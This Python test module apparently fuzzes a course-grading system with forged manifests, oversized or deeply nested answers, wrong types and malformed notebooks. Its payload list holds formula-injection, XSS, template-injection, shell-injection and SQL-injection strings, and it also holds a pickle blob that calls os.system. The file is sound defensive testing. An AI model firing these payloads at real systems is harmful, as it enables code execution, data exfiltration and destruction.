"""Forged records: sound to their check sum, with content that no workbook writes; and forged manifests and pages.

A check sum is no signature: anybody can make a record with a true one, so its content is a stranger's.
"""

import json
from functools import lru_cache
from hashlib import blake2b

from grading.answers import claimed_check, line_of
from grading.exercises import BANK_VERSION, EXERCISES, PAGES
from grading.variants import normalise_learner, scenario, scenario_digest
from grading.written_answers import practical_id
from tests.grading.made_hand_ins import SETTINGS
from tests.hostile.mutations_lines import BAD_LINE, GAP
from tests.hostile.mutations_made import MANIFEST, Mutant, Told, manifest_of, refused

ACTING_TEXTS = (
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://example.invalid/\"&A1)", "+1+cmd|' /C calc'!A0",
    "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\uff1d1+1", "\uff0b1", "\uff20SUM(1)",
    "'=1+1", "\";=1+1", "a\",=1+1,\"", "\x00=1+1", "\x1f=1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1",
    "DDE(\"cmd\")", "|calc", "%0A=1+1", "<script>alert('acted')</script>",
    "<SCRIPT SRC=//example.invalid/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='",
    "</p></article></main><script>x</script>", "</style><style>body{display:none}</style>",
    "</title><svg onload=alert(1)>", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "<!--", "-->", "<![CDATA[", "<base href=//example.invalid>", "<iframe srcdoc='<script>x</script>'>",
    "<a href='javascript:alert(1)'>right</a>", "&lt;script&gt;", "&#60;script&#62;",
    "<meta http-equiv=refresh content=0>", "<form action=//example.invalid>", "\\u003cscript\\u003e",
    "+ADw-script+AD4-", "{{ 7*7 }}", "{{ config }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}", "${7*7}", "#{7*7}", "%(x)s", "{0.__class__}",
    "{learner}", "%s%n", "`id`", "$(id)", "; rm -rf x", "| id", "__import__('os').system('id')",
    "'; DROP TABLE grade;--", "\x1b[2J\x1b]0;x\x07", "\x9b2J", "\u202e1 J 084", "\u2067x", "\u200fx",
    "\u061c1", "\u0661\u0662\u0663 J", "\u0645\u0631\u062d\u0628\u0627", "e" + "\u0301" * 200, "\ud800",
    "\udfff1 J", "\ufffe", "\x85", "\u2028",
)  # fmt: skip
HUGE_TEXTS = (
    "1e400", "1e400 J", "-1e400 mm", "9" * 10_000, "9" * 10_000 + " J", "0." + "0" * 9_000 + "1 mm",
    "1e-400 mm", "NaN", "nan J", "Infinity", "-Infinity J", "inf mm", "\u221e J", "1e999999999999 J",
    "1e" + "9" * 5_000, "0x" + "f" * 400, "1" + ",000" * 3000, "1" + " 000" * 3000, "1_000_000", "1/0",
    "1" + "/1" * 2000, "(" * 5000, "1 " + "m*" * 4000 + "m", "1 " + "(" * 3000, "1 m^999999999",
    "1 " + "k" * 6000, "1 mm" + "\u00b2" * 2000, "1" + "e1" * 3000, "+" * 9000 + "1 J",
    "1" + " " * 60_000 + "J", " " * 60_000, "1." * 20_000, "-" * 30_000, "1" * 120_000, "\u0661" * 9000,
    "\u00b2" * 300,
)  # fmt: skip
HUGE_NUMBERS = (
    "1e400", "-1e400", "1e308", "9" * 400, "-" + "9" * 400, "9" * 4400, "9" * 10_000, "NaN", "Infinity",
    "-Infinity", "1e-400", "-0", "0.1", "1e5", "18446744073709551616", "9223372036854775808", "1E+2", "0e0",
    "1.0",
)  # fmt: skip
WRONG_TYPES = (
    None, True, False, 0, 1, -1, 0.5, 10**30, "", "x", [], [1], {}, {"a": 1}, [[]], "\x00", " ",
)  # fmt: skip


def times(sound, dice):
    """Put records and hand-ins into the far past and future, or into no time at all."""
    moment = dice.choice(TIMES)
    if dice.random() < 0.5:
        changed = Changed(sound, dice)
        return Mutant(data=changed.data({**changed.content, "at": moment}), standing=sound.all)
    data = sound.with_members({MANIFEST: manifest_of(sound, made_at=moment)})
    return refused(data) if len(moment) > 200 else Mutant(data=data, standing=sound.all)


def nesting(sound, dice):
    """Nest lists and objects in each other, in an answer, a manifest, a notebook."""
    changed, deep = Changed(sound, dice), dice.choice((50, 99, 150, 1_000, 20_000, 60_000))
    opening, closing = dice.choice((("[", "]"), ('{"a":', "}")))
    where = dice.randrange(4)
    inner = "1" if opening != "[" else ""
    raw = opening * deep + inner + closing * deep
    if where < 2:
        return _nested_answer(changed, raw, deep)
    if where == 2:
        name = dice.choice(("format", "learner", "made_at", "x"))
        text = manifest_of(sound, **{name: "@@@"}).replace(_PLAIN.encode(), raw.encode())
        data = sound.with_members({MANIFEST: text})
        return refused(data) if name != "x" else Mutant(data=data, standing=sound.all, or_refused=deep > 200)
    return _with_notebook(sound, dice, raw.encode(), readable=None)


def _nested_answer(changed, raw, deep):
    """Put deep lists into an answer: too deep, and the line is told; else the part earns nothing."""
    part = changed.dice.choice(sorted(changed.content["answers"]))
    content = {**changed.content, "answers": {**changed.content["answers"], part: "@@@"}}
    data = changed.data(content, raw)
    if deep >= 99:
        told = Told(kinds=BAD_LINE, page=changed.page, line=changed.line)
        return Mutant(data=data, standing=changed.others, told=(told,))
    return Mutant(data=data, standing=changed.with_instead(_wrong_part(changed.content, part)))


def large(sound, dice):
    """Answer with 5 MB, with nearly as much as a line may hold, or with thousands of records."""
    changed = Changed(sound, dice)
    part = dice.choice(sorted(changed.content["answers"]))
    letter = dice.choice(("7", "x", "=", "<b>", "\u202e", "1 ", "m*"))
    how = dice.randrange(4)
    if how == 3:
        rubbish = dice.choice((b"x\n", b"{}\n", b"[]\n", b"\n\n9\n")) * 1_000
        journal = rubbish + sound.members[f"answers/{changed.page}.jsonl"]
        data = sound.with_members({f"answers/{changed.page}.jsonl": journal})
        return Mutant(data=data, standing=sound.all, told=(Told(kinds=BAD_LINE, page=changed.page),))
    if how == 0:
        content = {**changed.content, "answers": {part: letter * (5_000_000 // len(letter))}}
        return _page_too_large(changed, changed.data(content))
    if how == 1:
        content = {
            **changed.content,
            "answers": {part: letter * (dice.randint(140_000, 400_000) // len(letter))},
        }
        return changed.lost(content, *BAD_LINE)
    typed = letter * (100_000 // len(letter.encode("unicode_escape")))
    content = {**changed.content, "answers": {**changed.content["answers"], part: typed}}
    return Mutant(
        data=changed.data(content), standing=changed.with_instead(_wrong_part(changed.content, part))
    )


def _page_too_large(changed, data):
    """Return a hand-in of which one journal holds more than any may: it is named, and the others count."""
    kept = tuple(number for number in changed.sound.all if number not in changed.sound.numbers[changed.page])
    told = Told(kinds=frozenset({"hand-in"}), page=changed.page)
    return Mutant(data=data, standing=kept, told=(told,))


def manifests(sound, dice):
    """Spoil the manifest: fields left out, of another kind, too long; another format, version or encoding."""
    field = dice.choice(("format", "version", "learner", "display_name", "course", "bank", "made_at"))
    content = json.loads(sound.members[MANIFEST])
    how = dice.randrange(6)
    if how == 0:
        del content[field]
        return refused(sound.with_members({MANIFEST: json.dumps(content).encode()}))
    if how == 1:
        wrong = dice.choice(
            [each for each in WRONG_TYPES if type(each) is not type(content[field]) and each != 1]
        )
        return refused(sound.with_members({MANIFEST: manifest_of(sound, **{field: wrong})}))
    if how == 2:
        wrong = {"version": 2}.get(field, dice.choice(("x" * 201, "\x00" * 5000)))
        return refused(sound.with_members({MANIFEST: manifest_of(sound, **{field: wrong})}))
    if how == 3:
        nobody = dice.choice(("", " ", "\u200b", "\x00\x1b", "\u202e", "\ufeff"))
        return refused(sound.with_members({MANIFEST: manifest_of(sound, learner=nobody)}))
    if how == 4:
        strange = dice.choice(
            (b"", b"null", b"[]", b"0", b'"x"', b"{", b"\xff\xfe", b"NaN", b"[" * 60_000, b"9" * 5000)
        )
        return refused(sound.with_members({MANIFEST: strange}))
    text = sound.members[MANIFEST]
    same = dice.choice(
        (
            text + b"\n",
            b" " + text,
            text.replace(b'", "', b'",\r\n"'),
            manifest_of(sound, course="x" * 200, bank="=1"),
        )
    )
    return Mutant(data=sound.with_members({MANIFEST: same}), standing=sound.all, quiet=True)


def notebooks(sound, dice):
    """Put something else where a page's notebook should be; the answers do not depend on it."""
    page = dice.choice(sound.pages)
    cell = {
        "cell_type": "markdown",
        "metadata": {"nbgrader": {"grade_id": practical_id(page)}},
        "source": "x",
    }
    strange = dice.choice(
        (None, 0, "x", [], {}, True, [None], [[]], {"a": 1}, 1e308, "\ud800", "x" * 100_000)
    )
    good = lambda **changes: json.dumps({"cells": [{**cell, **changes}], "nbformat": 4}).encode()  # noqa: E731
    made, readable = dice.choice(
        (
            (b"", False),
            (b"not a notebook", False),
            (b"\x80\x04cos\nsystem\n.", False),
            (json.dumps(strange).encode(), False),
            (json.dumps({"cells": strange}).encode(), False),
            (json.dumps({"cells": [strange]}).encode(), False),
            (good(metadata=strange), False),
            (good(metadata={"nbgrader": strange}), False),
            (good(source=strange), isinstance(strange, str) or strange == []),
            (good(source=[strange]), isinstance(strange, str)),
            (good(source=dice.choice(ACTING_TEXTS)), True),
            (good(cell_type="code", source="open('ran_by_notebook', 'w').close()"), True),
            (good(source="x" * 1_000_000), True),
        )
    )
    return _with_notebook(sound, dice, made, readable=readable, page=page)


def _with_notebook(sound, dice, data, *, readable, page=None):
    """Return the hand-in with this notebook; where it cannot be read that must be told, and nothing else."""
    page = page or dice.choice(sound.pages)
    data = sound.with_members({f"pages/{page}.ipynb": data})
    told = () if readable or readable is None else (Told(kinds=frozenset({"hand-in"}), page=page),)
    return Mutant(data=data, standing=sound.all, told=told, quiet=bool(readable))


def twice(sound, dice):
    """Hand in twice: an earlier state, a spoilt copy, the same file again; every answer counts once."""
    page = dice.choice(sound.pages)
    journal = sound.members[f"answers/{page}.jsonl"]
    how = dice.randrange(4)
    if how == 0:
        other = sound.with_members({})
    elif how == 1:
        other = sound.with_members({f"answers/{page}.jsonl": journal[: dice.randrange(len(journal))]})
    elif how == 2:
        other = sound.with_members(
            {f"answers/{page}.jsonl": None, MANIFEST: manifest_of(sound, made_at=dice.choice(TIMES)[:200])}
        )
    else:
        other = sound.with_members({})[: -dice.randint(1, 200)]
        return Mutant(
            data=sound.with_members({}),
            more=(other,),
            standing=sound.all,
            told=(Told(kinds=frozenset({"hand-in"})),),
        )
    told = Told(kinds=frozenset({"several hand-ins"}))
    return Mutant(data=sound.with_members({}), more=(other,), standing=sound.all, told=(told,))


FAMILIES = {
    "acting texts in answers": (3, acting_answers),
    "acting texts in other fields": (2, acting_fields),
    "acting names": (2, acting_names),
    "huge numbers as typed": (2, huge_typed),
    "huge numbers as JSON": (3, huge_numbers),
    "wrong types": (6, types),
    "forged check sums": (2, checks),
    "other class, learner, bank, exercise": (4, others),
    "other pages": (1, pages_changed),
    "rounds": (1, rounds),
    "times": (2, times),
    "deep nesting": (2, nesting),
    "large answers": (0.3, large),
    "manifests": (3, manifests),
    "notebooks": (2, notebooks),
    "handed in twice": (2, twice),
}
